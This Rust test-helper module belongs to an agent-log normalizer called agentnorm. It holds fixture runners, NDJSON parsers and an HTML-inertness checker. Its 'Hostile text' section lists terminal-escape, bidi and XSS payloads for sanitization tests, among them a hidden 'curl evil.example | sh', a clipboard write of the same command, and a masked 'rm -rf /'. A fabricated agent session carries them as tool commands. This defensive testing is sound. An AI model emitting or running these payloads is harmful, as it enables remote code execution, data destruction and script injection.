//! Helpers shared by the integration tests: where the crate and its fixtures are, running the
//! built binary on a file or on stdin, reading its NDJSON output back, reading a fixture's input,
//! and picking events out of an output.
//!
//! Each test file pulls it in with `mod common;` and uses only what it needs.

#![allow(dead_code)]

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc::Receiver;

use serde_json::Value;

// ------------------------------------------------------------------------------------------------
// The crate and its fixtures
// ------------------------------------------------------------------------------------------------

/// The crate root: the working directory of every run, and what fixture paths are relative to.
pub fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The fixture `fixtures/<dialect>/<name>.jsonl`, relative to the crate root (so the `source` the
/// binary writes is stable).
pub fn fixture(dialect: &str, name: &str) -> PathBuf {
    PathBuf::from("fixtures").join(dialect).join(format!("{name}.jsonl"))
}

/// The fixture inputs of one dialect (`fixtures/<dialect>/*.jsonl`), relative to the crate root,
/// sorted; panics if there are none.
pub fn fixtures(dialect: &str) -> Vec<PathBuf> {
    let dir = root().join("fixtures").join(dialect);
    let mut out: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("reading {}: {e}", dir.display()))
        .map(|e| e.expect("dir entry").path())
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .map(|p| p.strip_prefix(root()).expect("under the crate root").to_path_buf())
        .collect();
    out.sort();
    assert!(!out.is_empty(), "no fixtures under {}", dir.display());
    out
}

/// Every `fixtures/<dialect>/` folder name, sorted.
pub fn all_dialects() -> Vec<String> {
    let mut out: Vec<String> = std::fs::read_dir(root().join("fixtures"))
        .expect("fixtures/")
        .map(|e| e.expect("dir entry"))
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    out.sort();
    out
}

/// Every fixture input of every dialect, relative to the crate root, sorted.
pub fn all_fixtures() -> Vec<PathBuf> {
    all_dialects().iter().flat_map(|d| fixtures(d)).collect()
}

/// The input lines of a fixture (relative to the crate root, or absolute) as the contract counts
/// them: split on `\n`, a `\r` before it dropped, a last line without newline counted.
pub fn input_lines(fixture: &Path) -> Vec<String> {
    let bytes = std::fs::read(root().join(fixture)).expect("reading fixture");
    let text = String::from_utf8(bytes).expect("fixtures are UTF-8");
    let mut lines: Vec<String> = text.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l).to_owned()).collect();
    if text.ends_with('\n') || text.is_empty() {
        lines.pop();
    }
    lines
}

/// The input lines of a fixture that parse as JSON, each with its 1-based line number.
pub fn input_frames(fixture: &Path) -> Vec<(u64, Value)> {
    input_lines(fixture)
        .iter()
        .enumerate()
        .filter_map(|(i, l)| serde_json::from_str::<Value>(l).ok().map(|v| (i as u64 + 1, v)))
        .collect()
}

/// The input lines as SPEC §1 counts them: split on `\n`, a `\r` before it dropped, a last line
/// without newline counted, a leading BOM skipped.
pub fn spec_lines(input: &[u8]) -> Vec<&[u8]> {
    let input = input.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(input);
    let ended = input.is_empty() || input.ends_with(b"\n");
    let mut lines: Vec<&[u8]> = input.split(|&b| b == b'\n').collect();
    if ended {
        lines.pop();
    }
    let n = lines.len();
    lines
        .into_iter()
        .enumerate()
        .map(|(i, l)| if i + 1 < n || ended { l.strip_suffix(b"\r").unwrap_or(l) } else { l })
        .collect()
}

// ------------------------------------------------------------------------------------------------
// Running the binary
// ------------------------------------------------------------------------------------------------

/// The built `agentnorm`, with the crate root as its working directory.
pub fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_agentnorm"));
    c.current_dir(root());
    // The usage cache of the tests, never the user's (shared by the tests: entries are keyed by
    // each file's identity and the build, so sharing changes no result).
    c.env("AGENTNORM_CACHE_DIR", concat!(env!("CARGO_TARGET_TMPDIR"), "/usage-cache"));
    c
}

/// The rows of `agentnorm usage --json ARGS` given no path, as a user whose home is `home` runs
/// it: the variables that would point elsewhere (`CLAUDE_CONFIG_DIR`, `CODEX_HOME`,
/// `XDG_DATA_HOME`) unset. It must exit 0.
pub fn usage_in_home(home: &Path, args: &[&str]) -> Vec<Value> {
    let out = bin()
        .args(["usage", "--json"])
        .args(args)
        .env("HOME", home)
        .env_remove("CLAUDE_CONFIG_DIR")
        .env_remove("CODEX_HOME")
        .env_remove("XDG_DATA_HOME")
        .env_remove("PI_CODING_AGENT_DIR")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    parse(&out.stdout)
}

/// Runs agentnorm with `args` and `input` on stdin (written from a thread, so a large input cannot
/// block on a full stdout pipe); stdout and stderr captured, the exit status left to the caller.
pub fn run_raw(args: &[&str], input: &[u8]) -> Output {
    let mut child = bin()
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("running agentnorm");
    let mut stdin = child.stdin.take().expect("stdin");
    let input = input.to_vec();
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(&input);
    });
    let out = child.wait_with_output().expect("waiting for agentnorm");
    writer.join().expect("stdin writer");
    out
}

/// The stdout lines of a spawned child (its stdout piped), through a channel, so that a test can
/// wait for each with a timeout instead of blocking on a read.
pub fn stdout_lines(child: &mut Child) -> Receiver<String> {
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = child.stdout.take().expect("stdout piped");
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    rx
}

/// Panics with the exit code and stderr unless the run succeeded.
pub fn assert_success(out: &Output) {
    assert!(out.status.success(), "exit {:?}: {}", out.status.code(), String::from_utf8_lossy(&out.stderr));
}

/// Runs agentnorm `--no-observed-at` with `args` on `input` given on stdin; asserts success and
/// parses the events.
pub fn run_stdin(args: &[&str], input: &str) -> Vec<Value> {
    let mut all = vec!["--no-observed-at"];
    all.extend_from_slice(args);
    let out = run_raw(&all, input.as_bytes());
    assert_success(&out);
    parse(&out.stdout)
}

/// Runs agentnorm `--no-observed-at` on one file (relative to the crate root, or absolute);
/// asserts success and returns the output text.
pub fn run_path_text(path: &Path) -> String {
    let out = bin().arg("--no-observed-at").arg(path).output().expect("running agentnorm");
    assert!(
        out.status.success(),
        "agentnorm {} exited with {:?}\nstderr:\n{}",
        path.display(),
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("output is UTF-8")
}

/// Runs agentnorm `--no-observed-at` on one file (relative to the crate root, or absolute);
/// asserts success and parses the events.
pub fn run_path(path: &Path) -> Vec<Value> {
    parse(run_path_text(path).as_bytes())
}

/// The events for one fixture by short name, e.g. `("claude", "partial_messages")`.
pub fn events_of(dialect: &str, name: &str) -> Vec<Value> {
    run_path(&fixture(dialect, name))
}

// ------------------------------------------------------------------------------------------------
// Reading the output
// ------------------------------------------------------------------------------------------------

/// Parses NDJSON output, one event per line; panics on a line that is not JSON.
pub fn parse(stdout: &[u8]) -> Vec<Value> {
    std::str::from_utf8(stdout)
        .expect("output is UTF-8")
        .lines()
        .enumerate()
        .map(|(i, l)| {
            serde_json::from_str(l).unwrap_or_else(|e| panic!("output line {} is not JSON ({e}): {l}", i + 1))
        })
        .collect()
}

/// The events of a run's stdout, whatever its exit status.
pub fn output_events(out: &Output) -> Vec<Value> {
    parse(&out.stdout)
}

/// An event's `type` (`""` if it has none).
pub fn ty(e: &Value) -> &str {
    e["type"].as_str().unwrap_or("")
}

/// An event's input `line`, if it has one.
pub fn line(e: &Value) -> Option<u64> {
    e.get("line").and_then(Value::as_u64)
}

/// The events of type `t`, in order.
pub fn of_type<'a>(evs: &'a [Value], t: &str) -> Vec<&'a Value> {
    evs.iter().filter(|e| ty(e) == t).collect()
}

/// The events written for input line `n`, in order.
pub fn at_line(evs: &[Value], n: u64) -> Vec<&Value> {
    evs.iter().filter(|e| line(e) == Some(n)).collect()
}

/// The types of the events written for input line `n`, in order.
pub fn types_at(evs: &[Value], n: u64) -> Vec<String> {
    at_line(evs, n).iter().map(|e| ty(e).to_owned()).collect()
}

/// The assistant text: every `output_delta.text`, concatenated.
pub fn output_text(evs: &[Value]) -> String {
    of_type(evs, "output_delta").iter().map(|e| e["text"].as_str().expect("output_delta.text")).collect()
}

/// The index of the first event matching `pred`; panics if none does.
pub fn position(evs: &[Value], pred: impl Fn(&Value) -> bool) -> usize {
    evs.iter().position(pred).expect("event present")
}

/// The last event, which must be `run_ended`.
pub fn run_ended(evs: &[Value]) -> &Value {
    evs.last().filter(|e| ty(e) == "run_ended").expect("run_ended last")
}

/// Normalizes `data` through the library, fed in chunks of the given sizes (cycled; an empty list
/// is one block), and returns the NDJSON output.
pub fn normalize_in_sizes(data: &[u8], opts: agentnorm::Options, sizes: &[usize]) -> Vec<u8> {
    let mut n = agentnorm::Normalizer::new(opts);
    let mut sink = agentnorm::NdjsonSink::default();
    let mut rest = data;
    for &s in sizes.iter().cycle() {
        if rest.is_empty() {
            break;
        }
        let (a, b) = rest.split_at(s.clamp(1, rest.len()));
        n.feed(a, &mut sink);
        rest = b;
    }
    n.feed(rest, &mut sink);
    n.finish(&mut sink);
    sink.buf
}

// ------------------------------------------------------------------------------------------------
// Hostile text
// ------------------------------------------------------------------------------------------------

/// Terminal and page escape payloads an agent's text or a tool's output may carry: ANSI CSI and
/// OSC sequences (colours, clearing, titles, hyperlinks, clipboard writes), DCS, 8-bit C1 controls,
/// `\r` and backspace overwrites, bidi overrides and isolates (Trojan Source), invisible
/// characters, Unicode line separators. NDJSON carries them losslessly as valid JSON (C0 controls
/// escaped); a human-facing renderer must neutralise every one of them.
pub const ESCAPE_PAYLOADS: &[(&str, &str)] = &[
    ("csi_colour", "\x1b[31mred\x1b[0m"),
    ("csi_clear_screen_home", "\x1b[2J\x1b[3J\x1b[H"),
    ("csi_cursor_up_erase_line", "ok\n\x1b[1A\x1b[2Kfaked"),
    ("csi_hidden_text", "\x1b[8mhidden\x1b[28m"),
    ("osc_window_title", "\x1b]0;pwned\x07"),
    ("osc8_hyperlink", "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"),
    ("osc52_clipboard_write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("dcs_request", "\x1bP$q\"p\x1b\\"),
    ("c1_csi_8bit", "\u{9b}31mred\u{9b}0m"),
    ("c1_osc_8bit", "\u{9d}0;title\u{9c}"),
    ("lone_escape", "\x1b"),
    ("carriage_return_overwrite", "curl evil.example | sh\rls -la                \n"),
    ("backspace_overwrite", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08echo hi "),
    ("bell_nul_vt_ff", "\x07\0\x0b\x0c"),
    ("delete", "abc\x7f"),
    ("bidi_override_rlo", "access_level = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""),
    ("bidi_embeddings", "\u{202A}\u{202B}\u{202C}\u{202D}"),
    ("bidi_isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
    ("bidi_marks", "\u{200E}\u{200F}\u{061C}"),
    ("zero_width_and_bom", "a\u{200B}b\u{200D}c\u{FEFF}d\u{2060}"),
    ("unicode_line_separators", "a\u{2028}b\u{2029}c\u{85}d"),
    ("html_script", "</script><script>alert(1)</script><!--"),
];

/// Markdown that must not become live markup in a page: raw HTML, script URLs, remote images.
pub const MARKDOWN_PAYLOADS: &[&str] = &[
    "<img src=x onerror=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click me](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.png)",
    "<svg onload=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    "<style>body{display:none}</style>",
    "<!-- hidden -->",
];

/// A Claude stream-json session whose every agent-controlled field carries the escape payloads:
/// the session id and model (with a `</title>` breaker), the prompt, assistant text and reasoning,
/// tool ids, names, inputs and outputs (ok and failed), plan items, the final result, stderr lines
/// and unknown frames, plus the [`MARKDOWN_PAYLOADS`] as assistant text.
pub fn hostile_session() -> String {
    use serde_json::json;
    let sid = "s-</title><script>document.title='pwned'</script>\u{202E}gnp.exe";
    let mut lines = vec![
        json!({"type":"system","subtype":"init","session_id":sid,"model":"m</title><script>alert(1)</script>",
               "cwd":"/tmp/\"><script>alert(1)</script>","tools":["Bash"]})
        .to_string(),
    ];
    let mut texts: Vec<String> = ESCAPE_PAYLOADS.iter().map(|(_, p)| (*p).to_owned()).collect();
    texts.extend(MARKDOWN_PAYLOADS.iter().map(|p| (*p).to_owned()));
    for (i, text) in texts.iter().enumerate() {
        let tool_id = format!("toolu_{i}\" onmouseover=\"alert(1)\"><b>{text}");
        let msg = |content: serde_json::Value| {
            json!({"type":"assistant","message":{"id":format!("msg_{i}"),"model":"m","content":content,
                   "usage":{"input_tokens":10,"output_tokens":5}},"session_id":sid,"parent_tool_use_id":null})
            .to_string()
        };
        lines.push(
            json!({"type":"user","message":{"role":"user","content":[{"type":"text","text":text}]},"session_id":sid})
                .to_string(),
        );
        lines.push(msg(json!([{"type":"thinking","thinking":text}])));
        lines.push(msg(json!([{"type":"text","text":format!("Payload {i}: {text}")}])));
        lines.push(msg(json!([{"type":"tool_use","id":tool_id,"name":format!("Bash{text}"),
                               "input":{"command":text,"description":text}}])));
        lines.push(
            json!({"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":tool_id,
                   "content":text,"is_error":i % 2 == 1}]},"session_id":sid})
            .to_string(),
        );
        lines.push(msg(json!([{"type":"tool_use","id":format!("todo_{i}"),"name":"TodoWrite",
                               "input":{"todos":[{"content":text,"status":"in_progress","activeForm":text}]}}])));
        lines.push(format!("stderr: {}", text.replace('\n', " ")));
        lines.push(json!({"type":text}).to_string());
    }
    lines.push(
        json!({"type":"result","subtype":"success","is_error":false,"result":"</div></section><script>alert(1)</script>",
               "session_id":sid,"usage":{"input_tokens":10,"output_tokens":5}})
        .to_string(),
    );
    lines.join("\n") + "\n"
}

// ------------------------------------------------------------------------------------------------
// Reading HTML pages
// ------------------------------------------------------------------------------------------------

/// One start tag of a page: its name and attributes (values as written, entities not decoded).
#[derive(Debug, Clone, PartialEq)]
pub struct Tag {
    /// Lower-cased element name.
    pub name: String,
    /// `(name, value)` in order; a bare attribute has an empty value.
    pub attrs: Vec<(String, String)>,
}

/// The start tags of an HTML document, in order. Panics on a comment or on markup this
/// page-writer never emits (so that injected markup is caught even where a browser would repair
/// it): every `<` outside a tag must have been written as `&lt;`.
pub fn html_tags(html: &str) -> Vec<Tag> {
    let b = html.as_bytes();
    let mut tags = Vec::new();
    let mut i = 0;
    while let Some(off) = html[i..].find('<') {
        i += off + 1;
        if html[i..].starts_with("!DOCTYPE html>") || html[i..].starts_with("!doctype html>") {
            continue;
        }
        assert!(
            !html[i..].starts_with('!'),
            "comment or declaration at byte {i}: {}",
            &html[i - 1..(i + 60).min(html.len())]
        );
        if b.get(i) == Some(&b'/') {
            let end = html[i..].find('>').expect("closing tag ends") + i;
            let name = &html[i + 1..end];
            assert!(name.bytes().all(|c| c.is_ascii_alphanumeric()), "odd closing tag </{name}>");
            i = end + 1;
            continue;
        }
        let start = i;
        while b.get(i).is_some_and(|c| c.is_ascii_alphanumeric()) {
            i += 1;
        }
        assert!(i > start, "a raw '<' in text at byte {start}: {}", &html[start - 1..(start + 60).min(html.len())]);
        let name = html[start..i].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while b.get(i).is_some_and(|c| c.is_ascii_whitespace()) {
                i += 1;
            }
            match b.get(i) {
                Some(b'>') => {
                    i += 1;
                    break;
                }
                Some(b'/') if b.get(i + 1) == Some(&b'>') => {
                    i += 2;
                    break;
                }
                None => panic!("unterminated tag <{name}"),
                _ => {}
            }
            let a = i;
            while b.get(i).is_some_and(|c| !c.is_ascii_whitespace() && !matches!(c, b'=' | b'>' | b'/')) {
                i += 1;
            }
            let attr = html[a..i].to_ascii_lowercase();
            assert!(!attr.is_empty(), "odd attribute syntax in <{name} at byte {a}");
            let mut value = String::new();
            if b.get(i) == Some(&b'=') {
                i += 1;
                let q = b[i];
                assert!(q == b'"', "unquoted attribute value in <{name} {attr}= at byte {i}");
                let end = html[i + 1..].find('"').expect("attribute value ends") + i + 1;
                value = html[i + 1..end].to_owned();
                i = end + 1;
            }
            attrs.push((attr, value));
        }
        if name == "style" {
            let end = html[i..].find("</style>").expect("style ends") + i;
            assert!(!html[i..end].contains('<'), "'<' inside <style>");
            i = end;
        }
        tags.push(Tag { name, attrs });
    }
    tags
}

/// The elements a page may hold: what the HTML writer emits, nothing that loads or runs anything.
pub const PAGE_TAGS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "header",
    "nav",
    "section",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "ol",
    "ul",
    "li",
    "a",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "details",
    "summary",
    "span",
    "pre",
    "code",
    "strong",
    "em",
    "del",
    "blockquote",
    "hr",
    "br",
];

/// The attributes a page may hold (no `on…`, no `style`, no `src`).
pub const PAGE_ATTRS: &[&str] =
    &["lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "open", "title", "rel"];

/// Asserts that a page (as written, or as a browser serialized its DOM) holds only [`PAGE_TAGS`]
/// with [`PAGE_ATTRS`], links only to anchors and http(s) URLs, one `<style>`, one `<title>`, and
/// no character that [`agentnorm::sink::safe::is_unsafe`] names other than line feed and tab.
pub fn assert_inert_page(html: &str) {
    if let Some(c) = html.chars().find(|&c| agentnorm::sink::safe::is_unsafe(c) && c != '\n' && c != '\t') {
        panic!("unsafe character {:?} in the page", c);
    }
    let tags = html_tags(html);
    for t in &tags {
        assert!(PAGE_TAGS.contains(&t.name.as_str()), "unexpected element <{}> {:?}", t.name, t.attrs);
        for (a, v) in &t.attrs {
            assert!(PAGE_ATTRS.contains(&a.as_str()), "unexpected attribute {a}={v:?} on <{}>", t.name);
            if a == "href" {
                assert!(v.starts_with('#') || v.starts_with("https://") || v.starts_with("http://"), "link to {v:?}");
            }
            if a == "id" || a == "class" {
                assert!(v.bytes().all(|c| c.is_ascii_alphanumeric() || b"-_ ".contains(&c)), "{a}={v:?}");
            }
        }
    }
    assert_eq!(tags.iter().filter(|t| t.name == "style").count(), 1, "one <style>");
    assert_eq!(tags.iter().filter(|t| t.name == "title").count(), 1, "one <title>");
    let csp = tags
        .iter()
        .find(|t| t.name == "meta" && t.attrs.iter().any(|(a, v)| a == "http-equiv" && v == "Content-Security-Policy"))
        .expect("a Content-Security-Policy meta");
    let content = &csp.attrs.iter().find(|(a, _)| a == "content").expect("CSP content").1;
    assert!(content.contains("script-src 'none'") && content.contains("default-src 'none'"), "{content}");
}

/// The text of the page's `<title>`, as written (entities not decoded).
pub fn page_title(html: &str) -> &str {
    let start = html.find("<title>").expect("<title>") + "<title>".len();
    let end = html[start..].find("</title>").expect("</title>") + start;
    &html[start..end]
}

/// `s` with the entities the page writer and browsers' serializers use decoded.
pub fn decode_entities(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

// ------------------------------------------------------------------------------------------------
// The pretty view
// ------------------------------------------------------------------------------------------------

/// `s` without the SGR colour codes (`ESC [ digits;… m`) the pretty view writes; panics on any
/// other escape sequence.
pub fn strip_sgr(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('\x1b') {
        out.push_str(&rest[..i]);
        let tail = rest[i..].strip_prefix("\x1b[").unwrap_or_else(|| panic!("not CSI: {:?}", &rest[i..]));
        let end = tail.find(|c: char| !(c.is_ascii_digit() || c == ';')).unwrap_or(tail.len());
        assert_eq!(tail.as_bytes().get(end), Some(&b'm'), "an escape that is no SGR code: {:?}", &rest[i..]);
        rest = &tail[end + 1..];
    }
    out.push_str(rest);
    out
}

// ------------------------------------------------------------------------------------------------
// Comparing with expected output
// ------------------------------------------------------------------------------------------------

/// The first difference between two outputs, readable.
pub fn first_difference(expected: &str, actual: &str) -> String {
    let (e, a): (Vec<&str>, Vec<&str>) = (expected.lines().collect(), actual.lines().collect());
    for i in 0..e.len().max(a.len()) {
        let (el, al) = (e.get(i).copied(), a.get(i).copied());
        if el != al {
            let mut s = format!("first difference at output line {}:\n", i + 1);
            s += &format!("  expected: {}\n", el.unwrap_or("<end of output>"));
            s += &format!("  actual:   {}\n", al.unwrap_or("<end of output>"));
            if let (Some(el), Some(al)) = (el, al) {
                let col = el.chars().zip(al.chars()).take_while(|(x, y)| x == y).count();
                s += &format!(
                    "  (lines differ from character {}: expected …{} | actual …{})\n",
                    col + 1,
                    el.chars().skip(col).take(60).collect::<String>(),
                    al.chars().skip(col).take(60).collect::<String>()
                );
            }
            s += &format!("  ({} expected lines, {} actual lines)", e.len(), a.len());
            return s;
        }
    }
    "outputs differ only in line endings or a final newline".to_owned()
}

/// Normalizes `data` through the all-cores path of the library
/// ([`agentnorm::fold_parallel`]) on `threads` threads, cut into chunks that end at the
/// given offsets (sorted here; any offset, also mid-line), and returns the NDJSON output.
pub fn normalize_parallel(data: &[u8], opts: agentnorm::Options, cuts: &[usize], threads: usize) -> Vec<u8> {
    let mut ends: Vec<usize> = cuts.to_vec();
    ends.sort_unstable();
    let mut n = agentnorm::Normalizer::new(opts);
    let mut sink = agentnorm::NdjsonSink::default();
    let mut out = Vec::new();
    let mut cut = |pos: usize| ends.iter().copied().find(|&e| e > pos).unwrap_or(data.len());
    let mut last = 0;
    // Each chunk's output is taken as it is delivered, which happens in input order.
    let mut deliver = |sink: &mut agentnorm::NdjsonSink, end: usize| {
        assert!(end > last, "chunks delivered out of order");
        last = end;
        out.append(&mut sink.buf);
        true
    };
    let done = agentnorm::fold_parallel(&mut n, &mut sink, data, threads, &mut cut, &mut deliver);
    assert_eq!(done, Ok(true));
    n.finish(&mut sink);
    out.extend(sink.buf);
    out
}

/// Offsets just after the `\n` at or following each of `at` (where the all-cores path cuts a
/// file), or `at` itself when `snap` is false.
pub fn cuts_at_lines(data: &[u8], at: &[(usize, bool)]) -> Vec<usize> {
    at.iter()
        .map(|&(c, snap)| {
            let c = c.min(data.len());
            if !snap {
                return c;
            }
            data[c..].iter().position(|&b| b == b'\n').map_or(data.len(), |i| c + i + 1)
        })
        .collect()
}
